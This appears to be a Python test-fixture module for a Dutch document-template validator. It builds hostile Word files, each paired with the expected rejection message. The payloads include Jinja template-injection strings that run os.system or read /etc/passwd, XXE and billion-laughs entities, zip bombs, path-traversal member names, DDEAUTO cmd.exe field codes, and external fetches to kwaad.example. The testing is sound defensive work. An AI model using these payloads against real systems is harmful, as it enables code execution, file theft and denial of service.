"""Templates that want something: code, memory, time, files, another's machine; and the words of the refusal."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

from documents import pakket
from documents.contexts import kind_van
from documents.render import SJABLONEN
from tests.factories.beeld import jpeg, png, png_van

SOORT = "gunningsbrief"
HUIS = (SJABLONEN / kind_van(SOORT).sjabloon).read_bytes()
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Leden = dict[str, bytes]
Ingreep = Callable[[Leden], None]


def verpak(leden: Mapping[str, bytes]) -> bytes:
    return pakket.schrijf(pakket.maak_lid(naam, data) for naam, data in leden.items())


def bewerk(*ingrepen: Ingreep) -> bytes:
    leden = pakket.lees(HUIS)
    for ingreep in ingrepen:
        ingreep(leden)
    return verpak(leden)


def alinea(tekst: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{tekst}</w:t></w:r></w:p>'


def xml_aan_eind(xml: str) -> Ingreep:
    """In the body, just before its last section."""

    def doe(leden: Leden) -> None:
        oud = leden["word/document.xml"].decode()
        leden["word/document.xml"] = f"{xml}<w:sectPr>".join(oud.rsplit("<w:sectPr>", 1)).encode()

    return doe


def tekst(inhoud: str) -> Ingreep:
    return xml_aan_eind(alinea(inhoud))


def vervang(deel: str, oud: str, nieuw: str, keer: int = 1) -> Ingreep:
    def doe(leden: Leden) -> None:
        assert oud.encode() in leden[deel], deel
        leden[deel] = leden[deel].replace(oud.encode(), nieuw.encode(), keer)

    return doe


def deel(naam: str, inhoud: str | bytes, soort: str, relatie: str = "", waar: str = "word") -> Ingreep:
    """One more part, known to the package and pointed to."""

    def doe(leden: Leden) -> None:
        leden[naam] = inhoud.encode() if isinstance(inhoud, str) else inhoud
        vervang("[Content_Types].xml", "</Types>", f'<Override PartName="/{naam}" ContentType="{soort}"/></Types>')(
            leden
        )
        if relatie:
            doel = naam.removeprefix("word/") if waar == "word" else naam
            koppel(relatie, doel, waar=waar)(leden)

    return doe


def koppel(relatie: str, doel: str, modus: str = "", waar: str = "word") -> Ingreep:
    rels = "word/_rels/document.xml.rels" if waar == "word" else "_rels/.rels"
    soort = relatie if ":" in relatie else f"{OFFICE}/{relatie}"
    extern = f' TargetMode="{modus}"' if modus else ""
    regel = f'<Relationship Id="rIdX{abs(hash((relatie, doel))) % 9999}" Type="{soort}" Target="{doel}"{extern}/>'
    return vervang(rels, "</Relationships>", f"{regel}</Relationships>")


def voetnoten(inhoud: str) -> Ingreep:
    xml = f"<w:footnotes {W}><w:footnote w:id='1'>{alinea(inhoud)}</w:footnote></w:footnotes>"
    return deel("word/footnotes.xml", xml, f"{WORD}.footnotes+xml", "footnotes")


def opmerkingen(inhoud: str) -> Ingreep:
    xml = f"<w:comments {W}><w:comment w:id='1' w:author='x'>{alinea(inhoud)}</w:comment></w:comments>"
    return deel("word/comments.xml", xml, f"{WORD}.comments+xml", "comments")


def eigen_eigenschap(inhoud: str) -> Ingreep:
    xml = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property '
        'fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="x">'
        f"<vt:lpwstr>{inhoud}</vt:lpwstr></property></Properties>"
    )
    soort = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    return deel("docProps/custom.xml", xml, soort, "custom-properties", waar="pakket")


def alt(inhoud: str) -> Ingreep:
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    veilig = inhoud.replace('"', "&quot;")
    return xml_aan_eind(
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{wp}"><wp:docPr id="9" name="logo" descr="{veilig}"/></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


PLEKKEN: dict[str, Callable[[str], Ingreep]] = {
    "tekst": tekst,
    "koptekst": lambda code: vervang("word/header1.xml", "{{ afzender.naam }}", f"{{{{ afzender.naam }}}} {code}"),
    "voettekst": lambda code: vervang("word/footer2.xml", "{{ kop.project }}", f"{{{{ kop.project }}}} {code}"),
    "voetnoot": voetnoten,
    "opmerking": opmerkingen,
    "kerneigenschap": lambda code: vervang("docProps/core.xml", "<dc:title>", f"<dc:title>{code} "),
    "eigen eigenschap": eigen_eigenschap,
    "alternatieve tekst": alt,
    "instellingen": lambda code: vervang(
        "word/settings.xml",
        "</w:settings>",
        f"<w:docVars><w:docVar w:name='a' w:val='{_attr(code)}'/></w:docVars></w:settings>",
    ),
    "stijlnaam": lambda code: (
        vervang("word/styles.xml", "</w:styles>", f"<!-- {code} --></w:styles>")
        if "--" in code
        else vervang(
            "word/styles.xml",
            "</w:styles>",
            f"<w:style w:type='paragraph' w:styleId='x'><w:name w:val='{_attr(code)}'/></w:style></w:styles>",
        )
    ),
    "attribuut": lambda code: xml_aan_eind(f"<w:p w:rsidR='{_attr(code)}'/>"),
    "veldcode": lambda code: xml_aan_eind(f"<w:p><w:r><w:instrText> REF x {code}</w:instrText></w:r></w:p>"),
}
"""Where a tag can be hidden."""

CODE = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ kop.__class__ }}",
    "{{ kop['kenmerk'] }}",
    "{{ kop.items() }}",
    "{{ kop.kenmerk|upper }}",
    "{{ cycler.__init__.__globals__.os.system('touch /tmp/zandloper-geraakt') }}",
    "{{ self.__init__ }}",
    "{{ lipsum() }}",
    "{{ 'x' * 10**9 }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% set x = 1 %}",
    "{% macro m() %}{% endmacro %}",
    "{% raw %}{{ kop.kenmerk }}{% endraw %}",
    "{% filter upper %}x{% endfilter %}",
    "{# verborgen #}",
)


def _attr(code: str) -> str:
    return code.replace("&", "&amp;").replace("<", "&lt;").replace("'", "&apos;")


def code_overal() -> dict[str, bytes]:
    """Every piece of code in the text, and one of each sort in every other place."""
    gevonden = {f"tekst: {code}": bewerk(tekst(code)) for code in CODE}
    for plek, maak in PLEKKEN.items():
        for code in ("{{ ''.__class__ }}", "{% include 'x' %}", "{% set x = 1 %}", "{{ kop.items() }}"):
            gevonden[f"{plek}: {code}"] = bewerk(maak(code))
    return gevonden


# --- de zip zelf ----------------------------------------------------------------------------------------------------


def met_namen(*namen: str) -> bytes:
    return pakket.schrijf(
        [pakket.maak_lid(naam, data) for naam, data in pakket.lees(HUIS).items()]
        + [pakket.maak_lid(naam, b"<x/>") for naam in namen]
    )


def liegend_lid() -> bytes:
    """A member that says it is small and unpacks to two gigabytes."""
    pers = zlib.compressobj(9, zlib.DEFLATED, -15)
    blok = pers.compress(bytes(1 << 20)) + pers.flush(zlib.Z_FULL_FLUSH)
    groot = pakket.Lid("word/media.xml", blok * 2048 + pers.flush(), 0, 100)
    return pakket.schrijf([*(pakket.maak_lid(n, d) for n, d in pakket.lees(HUIS).items()), groot])


def zegt_twee_gigabyte() -> bytes:
    lid = pakket.maak_lid("word/groot.xml", b"<x/>")
    groot = pakket.Lid(lid.naam, lid.ruw, lid.crc, 2_000_000_000)
    return pakket.schrijf([*(pakket.maak_lid(n, d) for n, d in pakket.lees(HUIS).items()), groot])


def lzma() -> bytes:
    uit = BytesIO()
    with zipfile.ZipFile(uit, "w", zipfile.ZIP_LZMA) as zip_:
        for naam, data in pakket.lees(HUIS).items():
            zip_.writestr(naam, data)
    return uit.getvalue()


def versleuteld() -> bytes:
    """The flag alone; nothing here can make the rest."""
    ruw = bytearray(HUIS)
    begin = 0
    while (begin := ruw.find(b"PK\x01\x02", begin)) >= 0:
        (vlag,) = struct.unpack_from("<H", ruw, begin + 8)
        struct.pack_into("<H", ruw, begin + 8, vlag | 1)
        begin += 4
    return bytes(ruw)


def overlappend() -> bytes:
    """Many names for one and the same big member, as the best zip bombs do."""
    lid = pakket.maak_lid("a.xml", bytes(4_000_000))
    return pakket.schrijf([pakket.Lid(f"{n}.xml", lid.ruw, lid.crc, lid.omvang) for n in range(190)])


ENTITEITEN = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "lol">' for n in range(10))


def dtd(inhoud: str, verwijzing: str) -> bytes:
    return bewerk(
        vervang("word/document.xml", "<w:document", f"<!DOCTYPE w [{inhoud}]>\n<w:document"), tekst(verwijzing)
    )


def utf16_dtd() -> bytes:
    def doe(leden: Leden) -> None:
        xml = leden["word/document.xml"].decode().replace("UTF-8", "UTF-16")
        leden["word/document.xml"] = xml.replace("<w:document", "<!DOCTYPE w []><w:document", 1).encode("utf-16")

    return bewerk(doe)


def utf7_dtd() -> bytes:
    def doe(leden: Leden) -> None:
        xml = leden["word/document.xml"].decode()
        leden["word/document.xml"] = (
            xml.replace('encoding="UTF-8"', 'encoding="UTF-7"')
            .replace("<w:document", "+ADwAIQ-DOCTYPE w []+AD4-<w:document", 1)
            .encode()
        )

    return bewerk(doe)


def diep(diepte: int) -> bytes:
    return bewerk(xml_aan_eind("<w:sdt>" * diepte + "</w:sdt>" * diepte))


def lussen(diepte: int, lijst: str = "criteria") -> str:
    open_ = "".join(f"{{% for a{n} in {lijst} %}}" for n in range(diepte))
    return f"{open_}{{{{ kop.kenmerk }}}}{'{% endfor %}' * diepte}"


def makro(naam: str, soort: str, relatie: str) -> bytes:
    return bewerk(deel(naam, b"\xd0\xcf\x11\xe0macro", soort, relatie))


def docm() -> bytes:
    return bewerk(
        vervang(
            "[Content_Types].xml", f"{WORD}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
        )
    )


def verwijs(xml: str, relatie: str, doel: str, modus: str = "") -> Ingreep:
    """A piece of the text that uses a relation, by the id rIdV; the prefixes of pictures are known in it."""

    def doe(leden: Leden) -> None:
        extern = f' TargetMode="{modus}"' if modus else ""
        regel = f'<Relationship Id="rIdV" Type="{OFFICE}/{relatie}" Target="{doel}"{extern}/>'
        vervang("word/_rels/document.xml.rels", "</Relationships>", f"{regel}</Relationships>")(leden)
        xml_aan_eind(f"<w:p><w:r>{xml}</w:r></w:p>")(leden)

    return doe


A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
WP15 = 'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
STRICT = 'xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"'
PIXEL = ("hyperlink", "http://kwaad.example/pixel.png", "External")


def blip(attribuut: str) -> str:
    return f"<w:drawing><a:blip {A} {R} {attribuut}/></w:drawing>"


def imagedata(attribuut: str) -> str:
    return f"<w:pict {V} {R}><v:shape><v:imagedata {attribuut}/></v:shape></w:pict>"


def dubbele_relatie(leden: Leden) -> None:
    verwijs(blip('r:embed="rIdV"'), "theme", "theme/theme1.xml")(leden)
    verwijs("", *PIXEL)(leden)


def rels_in_hoofdletters(leden: Leden) -> None:
    koppel("image", "file:///etc/passwd", "External")(leden)
    leden["word/_rels/document.xml.RELS"] = leden.pop("word/_rels/document.xml.rels")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00;"


def plaatje(naam: str, inhoud: bytes) -> Ingreep:
    """A picture as its name and kind say, whatever its bytes are."""
    return deel(f"word/media/{naam}", inhoud, f"image/{naam.rpartition('.')[2]}", "image")


BEGIN, SCHEIDING, EIND = (f'<w:r><w:fldChar w:fldCharType="{s}"/></w:r>' for s in ("begin", "separate", "end"))


def code(tekst: str) -> str:
    return f"<w:r><w:instrText>{tekst}</w:instrText></w:r>"


def veld(*stukken: str) -> Ingreep:
    """A field code whose instruction is these pieces, with a result."""
    return xml_aan_eind(f"<w:p>{BEGIN}{''.join(stukken)}{SCHEIDING}<w:r><w:t>1</w:t></w:r>{EIND}</w:p>")


def tekstrun(inhoud: str) -> str:
    return f"<w:r><w:t>{inhoud}</w:t></w:r>"


def veldcode(code: str) -> Ingreep:
    stuk = "".join(f"<w:r><w:instrText>{letters}</w:instrText></w:r>" for letters in (code[:3], code[3:]))
    return xml_aan_eind(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{stuk}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


BESTANDEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "leeg bestand": (lambda: b"", "geen leesbaar Word-bestand"),
    "geen zip": (lambda: b"MZ" + bytes(5000), "geen leesbaar Word-bestand"),
    "zip met iets ervoor": (lambda: b"#!/bin/sh\n" + HUIS, "geen leesbaar Word-bestand"),
    "afgeknipt": (lambda: HUIS[: len(HUIS) // 2], "geen leesbaar Word-bestand"),
    "versleuteld": (versleuteld, "versleuteld"),
    "lzma": (lzma, "ingepakt op een manier"),
    "te groot bestand": (lambda: b"PK\x03\x04" + bytes(6_000_000), "groter dan 5 MB"),
    "zipbom": (lambda: bewerk(deel("word/bom.xml", bytes(19_000_000), "application/xml")), "keer zo groot"),
    "zipbom van vele namen": (overlappend, "uitgepakt te groot"),
    "lid dat liegt over 2 GB": (liegend_lid, "geen leesbaar Word-bestand"),
    "lid dat 2 GB zegt": (zegt_twee_gigabyte, "uitgepakt te groot"),
    "duizend leden": (lambda: met_namen(*(f"word/x{n}.xml" for n in range(1000))), "meer dan 200 kan niet"),
    "naam met puntjes": (lambda: met_namen("word/../../etc/cron.d/x"), "wijst naar een andere map"),
    "naam vanaf de wortel": (lambda: met_namen("/etc/passwd"), "wijst naar een andere map"),
    "naam met een stationsletter": (lambda: met_namen("C:/x.xml"), "de naam van dit onderdeel kan niet"),
    "naam met een backslash": (lambda: met_namen("word\\..\\x.xml"), "de naam van dit onderdeel kan niet"),
    "naam met een nul": (lambda: met_namen("word/x\x00.xml"), "de naam van dit onderdeel kan niet"),
    "naam die dubbel is": (lambda: met_namen("word/document.xml"), "komt dubbel voor"),
    "naam die in hoofdletters dubbel is": (lambda: met_namen("WORD/Document.xml"), "komt dubbel voor"),
    "geen inhoudsopgave": (lambda: verpak({"word/document.xml": b"<x/>"}), "geen Word-document"),
    "xxe": (lambda: dtd('<!ENTITY x SYSTEM "file:///etc/passwd">', "&amp;x;"), "DTD of een entiteit"),
    "xxe over het net": (lambda: dtd('<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;', ""), "DTD of een entiteit"),
    "billion laughs": (lambda: dtd(ENTITEITEN, "&amp;a9;"), "DTD of een entiteit"),
    "dtd in utf-16": (utf16_dtd, "niet in UTF-8"),
    "dtd in utf-7": (utf7_dtd, "niet in UTF-8"),
    "zeer diepe xml": (lambda: diep(20_000), "geen geldige XML"),
    "kapotte xml": (lambda: bewerk(vervang("word/document.xml", "</w:body>", "")), "geen geldige XML"),
    "vba": (lambda: makro("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "vbaProject"), "een macro"),
    "vba onder een andere naam": (
        lambda: bewerk(
            deel(
                "word/vbaProject.xml",
                "<x/>",
                "application/xml",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            )
        ),
        "kan in een sjabloon niet",
    ),
    "docm": (docm, "sjabloon met macro’s"),
    "activex": (lambda: makro("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", "control"), "ActiveX"),
    "ole": (lambda: makro("word/embeddings/a.bin", f"{OFFICE}/oleObject", "oleObject"), "ingesloten bestand"),
    "ole in de tekst": (lambda: bewerk(xml_aan_eind("<w:p><w:r><w:object/></w:r></w:p>")), "ingesloten bestand (OLE)"),
    "altchunk": (lambda: bewerk(xml_aan_eind(f'<w:altChunk {R} r:id="rId9"/>')), "altChunk"),
    "altchunk met html": (lambda: bewerk(deel("word/a.html", "<script/>", "text/html", "aFChunk")), "ander bestand"),
    "svg": (lambda: bewerk(deel("word/media/a.svg", "<svg/>", "image/svg+xml", "image")), "gebruik png"),
    "svg die png heet": (lambda: bewerk(plaatje("a.png", SVG)), "dit is geen PNG- of JPEG-afbeelding"),
    "programma dat jpeg heet": (lambda: bewerk(plaatje("a.jpeg", b"MZ" + bytes(90))), "dit is geen PNG- of JPEG"),
    "svg die gif heet": (lambda: bewerk(plaatje("a.gif", SVG)), "dit is geen GIF-afbeelding"),
    "gif zonder maten": (lambda: bewerk(plaatje("a.gif", GIF[:8])), "dit is geen GIF-afbeelding"),
    "gif van grote maten": (
        lambda: bewerk(plaatje("a.gif", GIF.replace(b"\x01\x00\x01\x00", b"\xff\xff\xff\xff", 1))),
        "dit is geen GIF-afbeelding",
    ),
    "png van grote maten": (lambda: bewerk(plaatje("a.png", png_van(60_000, 60_000, b"\0"))), "hooguit 4000 per zijde"),
    "jpeg van grote maten": (lambda: bewerk(plaatje("a.jpeg", jpeg(60_000, 9))), "hooguit 4000 per zijde"),
    "png die afbreekt": (lambda: bewerk(plaatje("a.png", png(9, 9)[:-9])), "beschadigd of afgebroken"),
    "gekoppeld sjabloon": (
        lambda: bewerk(koppel("attachedTemplate", "http://kwaad.example/x.dotm", "External")),
        "'attachedTemplate' kan in een sjabloon niet",
    ),
    "plaatje van het net": (
        lambda: bewerk(koppel("image", "http://kwaad.example/pixel.png", "External")),
        "buiten het bestand",
    ),
    "plaatje van een schijf": (lambda: bewerk(koppel("image", "file:///etc/passwd", "External")), "buiten het bestand"),
    "link met javascript": (lambda: bewerk(koppel("hyperlink", "javascript:alert(1)", "External")), "alleen naar http"),
    "link naar een schijf": (lambda: bewerk(koppel("hyperlink", "file://server/deel", "External")), "alleen naar http"),
    "relatie buiten het bestand": (
        lambda: bewerk(koppel("image", "../../../etc/passwd")),
        "wijst naar iets wat er niet is",
    ),
    "veldcode die haalt": (lambda: bewerk(veldcode('INCLUDETEXT "http://kwaad.example"')), "veldcode INCLUDETEXT"),
    "veldcode die start": (lambda: bewerk(veldcode("DDEAUTO c:\\\\cmd.exe x")), "veldcode DDEAUTO"),
    "veldcode met een link": (lambda: bewerk(veldcode('HYPERLINK "file:///x"')), "alleen naar http"),
    "plaatje als link": (lambda: bewerk(verwijs(blip('r:link="rIdV"'), *PIXEL)), "wordt van buiten gehaald"),
    "plaatje dat een link is": (lambda: bewerk(verwijs(blip('r:embed="rIdV"'), *PIXEL)), "van de goede soort (blip)"),
    "plaatje in vml dat een link is": (
        lambda: bewerk(verwijs(imagedata('r:id="rIdV"'), *PIXEL)),
        "van de goede soort (imagedata)",
    ),
    "plaatje in vml bij relid": (
        lambda: bewerk(verwijs(imagedata('o:relid="rIdV"'), *PIXEL)),
        "van de goede soort (imagedata)",
    ),
    "plaatje in vml met r:href": (lambda: bewerk(verwijs(imagedata('r:href="rIdV"'), *PIXEL)), "van buiten gehaald"),
    "plaatje in vml met r:pict": (lambda: bewerk(verwijs(imagedata('r:pict="rIdV"'), *PIXEL)), "van buiten gehaald"),
    "plaatje in vml met src": (
        lambda: bewerk(verwijs(imagedata('src="http://kwaad.example/a.png"'), *PIXEL)),
        "'http://kwaad.example/a.png' wordt van buiten gehaald",
    ),
    "plaatje in vml met o:href": (
        lambda: bewerk(verwijs(imagedata('o:href="http://kwaad.example/a.png"'), *PIXEL)),
        "wordt van buiten gehaald",
    ),
    "vulling van een vorm": (
        lambda: bewerk(verwijs(f'<w:pict {V} {R}><v:shape><v:fill r:id="rIdV"/></v:shape></w:pict>', *PIXEL)),
        "van de goede soort (fill)",
    ),
    "link naar een plaatje": (
        lambda: bewerk(verwijs(f'<w:hyperlink {R} r:id="rIdV"/>', "theme", "theme/theme1.xml")),
        "van de goede soort (hyperlink)",
    ),
    "koptekst die een link is": (
        lambda: bewerk(verwijs(f'<w:headerReference {R} w:type="even" r:id="rIdV"/>', *PIXEL)),
        "van de goede soort (headerReference)",
    ),
    "verwijzing naar niets": (lambda: bewerk(xml_aan_eind(blip('r:embed="rIdW"'))), "van de goede soort (blip)"),
    "twee relaties van één naam": (lambda: bewerk(dubbele_relatie), "twee koppelingen hebben dezelfde naam"),
    "relaties in hoofdletters": (lambda: bewerk(rels_in_hoofdletters), "eindigt op hoofdletters"),
    "xml in hoofdletters": (lambda: met_namen("word/x.XML"), "eindigt op hoofdletters"),
    "plaatje in andere hoofdletters buiten": (
        lambda: bewerk(koppel("image", "http://kwaad.example/pixel.png", "EXTERNAL")),
        "buiten het bestand",
    ),
    "element van strict": (lambda: bewerk(xml_aan_eind(f"<s:p {STRICT}/>")), "Strict Open XML"),
    "attribuut van strict": (lambda: bewerk(xml_aan_eind(f'<w:p {STRICT} s:rsidR="1"/>')), "Strict Open XML"),
    "strict in een koptekst": (
        lambda: bewerk(vervang("word/header1.xml", "</w:hdr>", f"<s:p {STRICT}/></w:hdr>")),
        "Strict Open XML",
    ),
    "film van het internet": (
        lambda: bewerk(xml_aan_eind(f'<w:p {WP15}><wp15:webVideoPr h="1"/></w:p>')),
        "een film van het internet",
    ),
    "html in een film": (
        lambda: bewerk(xml_aan_eind(f'<w:p {WP15}><wp15:iets embeddedHtml="&lt;iframe/&gt;"/></w:p>')),
        "wordt van buiten gehaald",
    ),
    "videobestand": (lambda: bewerk(verwijs(f'<a:videoFile {A} {R} r:link="rIdV"/>', *PIXEL)), "een film kan"),
    "geluidsbestand": (lambda: bewerk(verwijs(f'<a:audioFile {A} {R} r:link="rIdV"/>', *PIXEL)), "geluid kan"),
    "xslt bij het bewaren": (
        lambda: bewerk(vervang("word/settings.xml", "</w:settings>", "<w:saveThroughXslt/></w:settings>")),
        "(XSLT) kan",
    ),
    "veldcode met een tag ertussen": (
        lambda: bewerk(veld(code("REF "), tekstrun("{% if perceel %}"), code('INCLUDETEXT "x"'))),
        "in de veldcode van Word staat iets wat er niet hoort (t)",
    ),
    "veldcode met een tag erin": (
        lambda: bewerk(veld(code("PAGE {{ kop.kenmerk }}"))),
        "deze veldcode van Word kan in een sjabloon niet: 'PAGE {{ kop.kenmerk }}'",
    ),
    "veldcode met een tag als naam": (lambda: bewerk(veld(code("{{ kop.kenmerk }} x"))), "veldcode {{ van Word"),
    "veldcode in elementen": (
        lambda: bewerk(veld("<w:r><w:instrText>PAGE<w:x>INCLUDETEXT x</w:x></w:instrText></w:r>")),
        "niet hoort (een los stuk)",
    ),
    "veldcode in de tekst": (lambda: bewerk(veld(tekstrun('INCLUDETEXT "http://kwaad.example"'))), "niet hoort (t)"),
    "veldcode die leeg is": (lambda: bewerk(veld()), "een veld van Word heeft geen opdracht"),
    "veldcode in een andere": (
        lambda: bewerk(veld(code("REF "), BEGIN, code("PAGE"), SCHEIDING, tekstrun("INCLUDETEXT"), EIND)),
        "niet hoort (een ander veld)",
    ),
    "veldcode in een keus": (
        lambda: bewerk(
            veld(f"<mc:AlternateContent {MC}><mc:Fallback>{code('DDE x')}</mc:Fallback></mc:AlternateContent>")
        ),
        "niet hoort (AlternateContent)",
    ),
    "veldcode na de scheiding": (
        lambda: bewerk(veld(code("PAGE"), SCHEIDING, code("DDE x"))),
        "de veldcode DDE van Word",
    ),
    "veldcode zonder begin": (lambda: bewerk(xml_aan_eind(f"<w:p>{code('DDE x')}</w:p>")), "de veldcode DDE van Word"),
    "veldcode waarvan de scheiding wegvalt": (
        lambda: bewerk(
            xml_aan_eind(
                f"<w:p>{BEGIN}{code('PAGE')}</w:p><w:p>{SCHEIDING}{tekstrun('{%p if perceel %}')}</w:p>"
                f"<w:p>{tekstrun('INCLUDETEXT x')}{EIND}</w:p>{alinea('{%p endif %}')}"
            )
        ),
        "een veld van Word; die verdwijnt",
    ),
    "veldcode in één stuk": (
        lambda: bewerk(xml_aan_eind('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>')),
        "veldcode INCLUDEPICTURE",
    ),
    "tweede adres in een link": (
        lambda: bewerk(veldcode('HYPERLINK \\l "hier" "file:///x"')),
        "alleen naar http",
    ),
    "adres als plaats in het document": (lambda: bewerk(veld(code('HYPERLINK \\l "file:///x"'))), "alleen naar http"),
    "mail merge": (
        lambda: bewerk(vervang("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>")),
        "mail merge",
    ),
    "acht lussen in elkaar": (lambda: bewerk(tekst(lussen(8))), "meer dan 4 lussen in elkaar"),
    "lus over dezelfde lijst": (lambda: bewerk(tekst(lussen(2, "besluiten"))), "een lus over deze lijst staat al open"),
    "lus over dezelfde lijst door een andere heen": (
        lambda: bewerk(
            tekst("{% for a in besluiten %}{% for a in overige %}{% for c in besluiten %}x" + "{% endfor %}" * 3)
        ),
        "een lus over deze lijst staat al open",
    ),
    "honderd lussen in elkaar": (lambda: bewerk(tekst(lussen(100))), "lussen in elkaar"),
    "twee gigabyte tekst": (lambda: bewerk(tekst("{{ 'x' * 2 * 10**9 }}")), "niet toegestaan"),
    "machten": (lambda: bewerk(tekst("{{ 9**9**9**9 }}")), "niet toegestaan"),
    "getal zonder einde": (lambda: bewerk(tekst(f"{{{{ {'9' * 100_000} }}}}")), "niet langer dan"),
    "haken zonder einde": (lambda: bewerk(tekst(f"{{{{ {'(' * 140}1{')' * 140} }}}}")), "te ingewikkeld"),
    "duizend voorwaarden in elkaar": (
        lambda: bewerk(tekst("{% if perceel %}" * 900 + "{% endif %}" * 900)),
        "te diep genest",
    ),
    "tienduizend tags": (lambda: bewerk(tekst("{{ kop.kenmerk }}" * 10_000)), "meer dan 2000 velden en tags"),
    "tienduizend fouten": (lambda: bewerk(*[tekst("{{ weg }}" * 50)] * 200), "'weg' bestaat niet"),
}
"""How it is made, and words of the refusal."""


def ruis(leden: Leden) -> None:
    """A picture that cannot be packed, so that the file is not refused for how well the rest is."""
    kans = random.Random(1)
    leden["word/media/ruis.png"] = png_van(200, 200, b"".join(b"\0" + kans.randbytes(600) for _ in range(200)))
    vervang("[Content_Types].xml", "<Override", '<Default Extension="png" ContentType="image/png"/><Override')(leden)
    koppel("image", "media/ruis.png")(leden)


GULZIG: dict[str, Callable[[], bytes]] = {
    "vier lussen over alles": lambda: bewerk(*[tekst(lussen(4, "besluiten")) for _ in range(20)]),
    "miljoenen accolades": lambda: bewerk(ruis, tekst("{{" * 1_200_000)),
    "halve tags": lambda: bewerk(ruis, tekst("{%p " * 900_000)),
    "open tags in elke alinea": lambda: bewerk(ruis, xml_aan_eind(alinea("{%p if perceel %}") * 40_000)),
    "duizenden tabellen": lambda: bewerk(
        ruis, xml_aan_eind("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>" * 80_000)
    ),
    "vijf megabyte alinea’s": lambda: bewerk(ruis, xml_aan_eind("<w:p><w:r><w:t>{</w:t></w:r></w:p>" * 120_000)),
    "tag over alle alinea’s": lambda: bewerk(ruis, tekst("{{ kop"), xml_aan_eind("<w:p/>" * 100_000), tekst(".x }}")),
    "vier delen van vijf megabyte": lambda: bewerk(
        ruis, *(deel(f"word/footer{n}.xml", _vol(n), f"{WORD}.footer+xml", "footer") for n in (3, 4, 5))
    ),
    "miljoen attributen": lambda: bewerk(ruis, xml_aan_eind(f"<w:p {' '.join(map(_leeg, range(400_000)))}/>")),
    "te veel tekst om af te drukken": lambda: bewerk(
        ruis, tekst(lussen(4).replace("{{ kop", "x" * 200_000 + "{{ kop"))
    ),
}
"""These may be refused for whatever reason, or by a limit; they may not take more than that."""


def _leeg(n: int) -> str:
    return f"a{n}=''"


def _vol(n: int) -> str:
    return f"<w:ftr {W}>{alinea(f'regel {n} {{{{ kop.kenmerk }}}}') * 45_000}</w:ftr>"
